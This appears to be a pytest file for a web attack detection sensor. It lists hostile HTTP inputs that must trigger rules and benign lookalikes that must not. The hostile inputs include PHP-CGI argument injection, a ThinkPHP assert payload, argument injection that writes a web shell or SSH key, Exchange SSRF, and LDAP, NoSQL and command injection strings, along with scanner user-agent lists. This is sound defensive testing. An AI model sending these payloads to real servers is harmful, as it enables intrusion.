"""Round 7, after the third blind batches: each class it closed, with attacks that must be caught and near-misses that must stay clean."""
from __future__ import annotations

import pytest

from sensor.detect import verdict
from sensor.detect.rawrequest import parse_raw
from sensor.points import graphql
from tests.detect.wild_benign import build_request


def _rules(engine, carrier: str, value: str, key: str = "q") -> set[str]:
    return {h.rule for h in engine.inspect(build_request(carrier, value, key)) if h.score >= 0.5}


CAUGHT = [
    # (carrier, key, value, rule)
    ("path", "", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "scanner:debug_endpoint"),
    ("path", "", "/lib/phpunit/src/Util/PHP/eval-stdin.php", "scanner:debug_endpoint"),
    ("path", "", "/_ignition/execute-solution", "scanner:debug_endpoint"),
    ("path", "", "/_profiler/phpinfo", "scanner:debug_endpoint"),
    ("path", "", "/debug/pprof/heap?debug=1", "scanner:debug_endpoint"),
    ("path", "", "/telescope/telescope-api/requests", "scanner:debug_endpoint"),
    ("path", "", "/phpMyAdmin/setup/index.php", "scanner:debug_endpoint"),
    ("path", "", "/cgi-bin/printenv", "scanner:debug_endpoint"),
    ("path", "", "/backup.tar.gz", "scanner:backup_probe"),
    ("path", "", "/wwwroot.rar", "scanner:backup_probe"),
    ("path", "", "/db.sql", "scanner:backup_probe"),
    ("cookie", "t", "acunetix_wvs_security_test", "scanner:tool_marker"),
    ("query", "q", "w00tw00t.at.blackhats.romanian.anti-sec:)", "scanner:tool_marker"),
    ("header:User-Agent", "", "Fuzz Faster U Fool v2.1.0", "scanner:user_agent"),
    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n00000000000000000000001\r\nA\r\n0\r\n\r\n",
     "protocol:bad_chunk"),
    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nA\r\n0\r\n\r\n",
     "protocol:bad_chunk"),
    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n1_0\r\nAAAAAAAAAAAAAAAA\r\n0\r\n\r\n",
     "protocol:bad_chunk"),
    ("raw", "", "GET /a.iso HTTP/1.1\r\nHost: a.example\r\nRange: bytes=18-18446744073709551615\r\n\r\n", "protocol:bad_range"),
    ("raw", "", "GET / HTTP/1.1\r\nHost: a.example\r\nRange: bytes=" + ",".join(f"{i}-{i + 100}" for i in range(40)) + "\r\n\r\n",
     "protocol:bad_range"),
    ("raw", "", "GET /admin HTTP/1.1\r\nHost: a.example\r\nX-Real-IP: 127.0.0.1\r\nX-Rewrite-URL: /admin/console\r\n\r\n",
     "protocol:url_override"),
    ("path", "", "/index.php?-s", "php:cgi_argument"),
    ("path", "", "/cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", "php:cgi_argument"),
    ("path", "", "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0", "php:cgi_argument"),
    ("path", "", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
     "ssrf:explicit_logon"),
    ("query", "url", "http://example.com -o /var/www/html/x.php http://203.0.113.9/x.txt", "rce:argument_injection"),
    ("query", "src", "https://cdn.example/a.txt --output /var/www/uploads/a.phtml", "rce:argument_injection"),
    ("json", "feed", "ftp://files.example/k --output /root/.ssh/authorized_keys", "rce:argument_injection"),
    ("form", "user", "admin*)((|userPassword=*)", "ldapi:filter_breakout"),
    ("query", "cn", "x)((&(objectClass=*)", "ldapi:filter_breakout"),
    ("path", "", "/login.php?user=admin&password[]=x", "nosqli:array_credential"),
    ("path", "", "/login.php?user=admin&pass[]=1", "nosqli:array_credential"),
    ("path", "", "/login.php?user=admin&passwd[0]=1", "nosqli:array_credential"),
    ("path", "", "/api/login?login[password][]=x", "nosqli:array_credential"),
    ("json", "", '{"query":"{ a }\\n;id"}', "rce:chained_command"),
    ("json", "", '{"query":"query { a }\\n`id`"}', "rce:command_substitution"),
    # (stop 18) a method override naming a PHP magic method: ThinkPHP 5.0 calls Request::__construct with the fields
    ("raw", "", "POST /index.php?s=captcha HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                "Content-Length: 60\r\n\r\n_method=__construct&filter=assert&method=get&get[]=phpinfo()", "php:magic_method_override"),
    ("query", "_method", "__construct", "php:magic_method_override"),
    ("form", "_METHOD", " __destruct", "php:magic_method_override"),
    ("json", "_method", "__call", "php:magic_method_override"),
]
CLEAN = [
    ("path", "", "/downloads/www.zip"),
    ("path", "", "/files/backup-2024.zip"),
    ("path", "", "/dataset.zip"),
    ("path", "", "/blog/telescope-reviews"),
    ("path", "", "/docs/debug/pprof"),
    ("path", "", "/cgi-bin/search.cgi"),
    ("query", "q", "phpunit eval-stdin"),
    ("query", "q", "acunetix review"),
    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n1a;ext=1\r\n"
                "abcdefghijklmnopqrstuvwxyz\r\n0\r\n\r\n"),
    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n0000A\r\n0123456789\r\n0\r\n\r\n"),
    ("raw", "", "GET /v.mp4 HTTP/1.1\r\nHost: a.example\r\nRange: bytes=0-1023,2048-4095\r\n\r\n"),
    ("raw", "", "GET /v.mp4 HTTP/1.1\r\nHost: a.example\r\nRange: bytes=1073741824-2147483647\r\n\r\n"),
    ("raw", "", "GET /v.mp4 HTTP/1.1\r\nHost: a.example\r\nRange: bytes=-500\r\n\r\n"),
    ("raw", "", "GET /admin HTTP/1.1\r\nHost: a.example\r\nX-Forwarded-For: 203.0.113.7\r\nX-Original-URL: /admin/users\r\n\r\n"),
    ("path", "", "/search?-5"),
    ("path", "", "/list?-created_at"),
    ("path", "", "/sort?-date&page=2"),
    ("path", "", "/autodiscover/autodiscover.json?Email=a@b.example&Protocol=ActiveSync"),
    ("query", "url", "https://example.com/file.pdf -o report.pdf"),
    ("query", "url", "https://example.com/docs -- see page 2"),
    ("path", "", "/register?form[plainPassword][first]=S3cret!&form[plainPassword][second]=S3cret!"),
    ("path", "", "/u?user[password]=hunter22&user[email]=a@b.example"),
    ("path", "", "/otp?code[]=1&code[]=2&code[]=3"),
    ("path", "", "/search?q=password[]"),
    ("path", "", "/x?password_hint[]=a&bypass[]=b&compass[]=c"),
    ("form", "_method", "PUT"),
    ("form", "_method", "PATCH"),
    ("query", "q", "__construct"),
    ("query", "search", "php __construct vs __init__"),
    ("form", "method", "__construct"),
    ("form", "comment", "smiley :)((( so sad"),
    ("form", "comment", "call me (maybe) ((|"),
    ("json", "", '{"query":"query GetProduct($handle: String!, $first: Int = 5) {\\n  product(handle: $handle) {\\n'
                 '    id\\n    title\\n  }\\n}","variables":{"handle":"tee","first":3}}'),
    ("json", "", '{"query":"mutation {\\n  login(user: \\"a\\", pass: \\"b\\") {\\n    token\\n    id\\n  }\\n}"}'),
    ("query", "query", "{\n  viewer {\n    id\n    login\n  }\n}"),
    ("json", "", '{"query":"query Q @live { a(x: 1.5e3) { ...F @include(if: true) } } fragment F on T {\\n b\\n id\\n}"}'),
]


def test_graphql_strings_are_still_judged(engine):
    # the document's own lines are no commands, but what its arguments carry is judged as ever
    hits = engine.inspect(build_request("json", '{"query":"{ user(name: \\"x;id\\") { id } }"}', ""))
    assert any(h.rule == "rce:chained_command" and h.point[-3:] == ["graphql", "user", "name"] for h in hits)


@pytest.mark.parametrize("text,is_doc", [
    ("query { product { id\n title } }", True),
    ('mutation { login(u: "a;b") { token } }', True),
    ("{ a }\nid", False),          # a bare word between definitions is no GraphQL
    ("query {\n$(id)\n}", False),  # `$(` is no variable
    ("{ a }|id", False),
    ("{ a }}", False),
])
def test_graphql_document_grammar(text, is_doc):
    assert graphql.is_document(text) is is_doc


def test_raw_reader_reports_bad_chunk_sizes():
    req = parse_raw(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\nA\r\n0\r\n\r\n")
    assert req.anomalies == ["chunk_size"]
    ok = parse_raw(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
    assert ok.anomalies == [] and ok.body == b"hello"


# --- round 9 (fifth blind batches): tool marks and endpoints of widely exploited products -------------------------
ROUND9_CAUGHT = [
    # (carrier, key, value, rule)
    ("header:User-Agent", "", "Mozilla/5.0 (compatible; dirsearch v0.4.2)", "scanner:user_agent"),
    ("header:User-Agent", "", "DotDotPwn v3.0.2", "scanner:user_agent"),
    ("header:User-Agent", "", "Toata dragostea mea pentru diavola", "scanner:user_agent"),
    ("header:User-Agent", "", "Mozilla/4.0 (compatible; Grendel-Scan 1.0)", "scanner:user_agent"),
    ("header:User-Agent", "", "Mozilla/5.0 (compatible; N-Stealth)", "scanner:user_agent"),
    ("header:User-Agent", "", "Mozilla/5.0 Gootkit auto-rooter scanner", "scanner:user_agent"),
    ("header:X-Aspect", "", "aspectalerts, filelist", "scanner:tool_marker"),
    ("path", "", "/pages/viewpage.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", "scanner:tool_marker"),
    ("form", "bootstrapStatusProvider.applicationConfig.setupComplete", "0", "scanner:tool_marker"),
    ("path", "", "/json/setup-restore.action?synchronous=true", "scanner:probe_path"),
    ("path", "", "/setup/setupadministrator.action", "scanner:probe_path"),
    ("path", "", "/service/extension/backup/mboximport?account-name=x&ow=2&no-switch=1&append=1", "scanner:probe_path"),
    ("path", "", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=upload", "scanner:probe_path"),
    ("path", "", "/wls-wsat/CoordinatorPortType", "scanner:probe_path"),
    ("path", "", "/_async/AsyncResponseService", "scanner:probe_path"),
    ("path", "", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy."
                 "SecureGroovyScript/checkScript", "scanner:probe_path"),
    ("raw", "", "t3 12.2.3\nAS:2048\nHL:19\nMS:10000000\nPU:t3s://10.0.0.5:7002\n\n", "scanner:probe_path"),
    ("header:X-Target", "", "t3://wls-admin.internal:7001", "scanner:probe_path"),
    ("raw", "", "POST /moveitisapi/moveitisapi.dll?action=m2 HTTP/1.1\r\nHost: a.example\r\n"
                "X-siLock-Transaction: folder_add_by_path\r\nContent-Length: 0\r\n\r\n", "scanner:probe_path"),
    # (lead) a one-word User-Agent is judged for tool names only; header names only tools send
    ("header:User-Agent", "", "ZmEu", "scanner:user_agent"),
    ("header:User-Agent", "", "masscan", "scanner:user_agent"),
    ("header:Acunetix-Aspect", "", "enabled", "scanner:tool_header"),
    ("header:Acunetix-Aspect-Password", "", "082119f75623eb7abd7bf357698ff66c", "scanner:tool_header"),
    ("header:X-Scan-Memo", "", "Category=Audit.Attack", "scanner:tool_header"),
]
ROUND9_CLEAN = [
    ("path", "", "/.well-known/openid-configuration"),
    ("path", "", "/.well-known/security.txt"),
    ("path", "", "/oauth/idp/.well-known/openid-configuration"),
    ("path", "", "/blog/d-link-hnap1-flaw-explained"),
    ("path", "", "/docs/boaform-admin-guide"),
    ("path", "", "/wiki/server-info.action?pageId=12"),
    ("path", "", "/wp-content/plugins/wp-file-manager/lib/css/elfinder.min.css"),
    ("path", "", "/elfinder/php/connector.minimal.php?cmd=open&target=l1_Lw"),
    ("path", "", "/service/home/~/inbox.rss"),
    ("path", "", "/tools/dirsearch"),
    ("query", "q", "/boaform/admin/formLogin"),
    ("query", "q", "dirsearch vs gobuster"),
    ("form", "comment", "We patched the Confluence bootstrapStatusProvider.applicationConfig.setupComplete bug on Monday"),
    ("header:User-Agent", "", "python-httpx/0.27.0"),
    ("header:User-Agent", "", "Go-http-client/2.0"),
    ("header:User-Agent", "", "Scrapy/2.11.2 (+https://scrapy.org)"),
    ("header:User-Agent", "", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    ("header:Referer", "", "https://news.example/2023/moveit-transfer-t3-weblogic-exploits"),
    ("header:X-Upstream", "", "http://t3.internal.example:7001/"),
    ("raw", "", "PROPFIND /dav/docs/ HTTP/1.1\r\nHost: files.example\r\nDepth: 1\r\n"
                "User-Agent: Microsoft-WebDAV-MiniRedir/10.0.19045\r\nContent-Length: 0\r\n\r\n"),
    ("raw", "", "HEAD /healthz HTTP/1.0\r\nUser-Agent: ELB-HealthChecker/2.0\r\n\r\n"),
    ("header:User-Agent", "", "curl"),
    ("header:User-Agent", "", "Wget"),
    ("header:User-Agent", "", "python"),
    ("header:User-Agent", "", "Googlebot"),
    ("header:X-Scan-Id", "", "7f3a"),
    ("header:X-Acunetix-Report", "", "weekly"),
]


# Router and camera UI endpoints (stop 20): reported (`scanner:device_path`, 0.45), not blocked. On a web site they are
# bots' recon of a device that is not there; on the device they are its own UI (blind benign 10: the HNAP login, the
# GPON login form, Hikvision's language call). The exploits on them carry payloads or match a KEV virtual patch.
DEVICE_PATHS = [
    ("path", "", "/HNAP1"),
    ("header:SOAPAction", "", "\"http://purenetworks.com/HNAP1/GetDeviceSettings\""),
    ("path", "", "/boaform/admin/formPing"),
    ("path", "", "/GponForm/diag_Form?x=1"),
    ("path", "", "/ctrlt/DeviceUpgrade_1"),
    ("path", "", "/cgi-bin/luci/;stok=/locale?form=country"),
    ("path", "", "/tmUnblock.cgi"),
    ("path", "", "/SDK/webLanguage"),
]


@pytest.mark.parametrize("carrier,key,value", DEVICE_PATHS, ids=lambda v: str(v)[:40])
def test_device_paths_are_reported_not_blocked(engine, carrier, key, value):
    hits = engine.inspect(build_request(carrier, value, key))
    assert verdict(hits) == "clean"
    assert any(h.rule == "scanner:device_path" and 0.3 <= h.score < 0.5 for h in hits), hits


@pytest.mark.parametrize("carrier,key,value,rule", CAUGHT + ROUND9_CAUGHT, ids=lambda v: str(v)[:40])
def test_caught(engine, carrier, key, value, rule):
    assert rule in _rules(engine, carrier, value, key)


@pytest.mark.parametrize("carrier,key,value", CLEAN + ROUND9_CLEAN, ids=lambda v: str(v)[:40])
def test_clean(engine, carrier, key, value):
    assert verdict(engine.inspect(build_request(carrier, value, key))) == "clean"
